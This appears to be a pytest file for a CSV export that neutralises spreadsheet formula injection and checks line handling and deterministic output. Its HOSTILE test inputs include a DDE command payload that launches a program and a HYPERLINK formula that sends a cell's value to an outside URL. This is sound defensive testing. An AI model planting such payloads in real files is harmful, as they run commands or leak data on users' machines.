"""A table saved as comma-separated values: no cell is a formula, each record is one line."""

import csv
import io

import pytest

from app.core.blocks import Cell, Control, Document, Heading, Paragraph, Run, Table
from app.documents.csv_file import MARK, harmless, record_by_record, to_csv

HOSTILE = (
    "=1+1",
    "+44 20 7946 0000",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "'=1+1",
    '"=1+1',
    "\uff1d1+1",
    '=HYPERLINK("https://example.org?"&A1,"here")',
    "=cmd|' /C calc'!A0",
    "\0=1+1",
)
PLAIN = ("Carnmere", "a=b", "1-2", "10,000 to 99,999", "", "– none", 'He said "no"', "naïve; и да")


def written(*cells: str, header: str = "Name") -> Document:
    rows = tuple((Cell(((Run(each),),)), Cell(((Run("last"),),))) for each in cells)
    control = Control("Record", "A project", "OFFICIAL", "1", "00", "2026-01-01")
    return Document(control, (Table("Record", (header, "Last"), rows),))


def read(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8")
    assert text.startswith(MARK)
    return list(csv.reader(io.StringIO(text.removeprefix(MARK), newline=""), strict=True))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_a_spreadsheet_would_run_becomes_text(text: str) -> None:
    assert harmless(text) == f"'{text}"
    _, (cell, last) = read(to_csv(written(text)))
    assert (cell[0], last) == ("'", "last")


@pytest.mark.parametrize("text", HOSTILE)
def test_a_title_that_a_spreadsheet_would_run_becomes_text(text: str) -> None:
    assert read(to_csv(written("x", header=text)))[0][0] == f"'{text}"


@pytest.mark.parametrize("text", PLAIN)
def test_any_other_cell_is_read_back_as_it_was(text: str) -> None:
    assert read(to_csv(written(text)))[1][0] == text


def test_each_record_is_one_line_however_long_its_answers() -> None:
    content = to_csv(written("one\ntwo\r\nthree", "four"))
    assert content.count(b"\r\n") == 3
    assert content.count(b"\n") == 3
    assert [row[0] for row in read(content)] == ["Name", "one two three", "four"]


def test_the_paragraphs_of_a_cell_stand_on_one_line_between_semicolons() -> None:
    lines = Cell(((Run("For a time."),), (Run("24 months"),), (Run("After that."),)))
    document = written("x")
    table = Table("Record", ("Name",), ((lines,),))
    said = read(to_csv(Document(document.control, (table,))))[1]
    assert said == ["For a time.; 24 months; After that"]


def test_the_same_table_gives_the_same_bytes() -> None:
    assert to_csv(written(*HOSTILE)) == to_csv(written(*HOSTILE))


def test_on_a_page_each_record_is_a_table_of_its_own() -> None:
    blocks = record_by_record(written("Carnmere", "Hartvale"))
    titles = [block.text for block in blocks if isinstance(block, Heading)]
    tables = [block for block in blocks if isinstance(block, Table)]
    assert titles == ["Carnmere", "Hartvale"]
    assert [table.rows[0][1].paragraphs[0][0].text for table in tables] == titles
    assert {table.header for table in tables} == {("Column", "What it says")}


def test_on_a_page_a_table_without_records_says_so() -> None:
    (block,) = record_by_record(written())
    assert isinstance(block, Paragraph)
    assert read(to_csv(written())) == [["Name", "Last"]]
